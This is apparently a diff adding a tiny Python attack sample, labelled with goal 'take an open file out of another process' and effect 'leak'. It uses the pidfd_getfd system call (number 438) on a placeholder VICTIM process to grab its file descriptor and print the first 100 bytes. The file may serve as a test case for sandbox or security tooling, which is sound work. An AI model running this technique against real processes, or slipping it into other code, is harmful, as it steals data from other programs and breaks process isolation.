@@ -1,0 +1,10 @@
+"""
+goal: take an open file out of another process
+effect: leak
+"""
+
+import ctypes
+import os
+
+fd = ctypes.CDLL(None).syscall(438, os.pidfd_open(VICTIM), 99, 0)
+print(os.pread(fd, 100, 0))
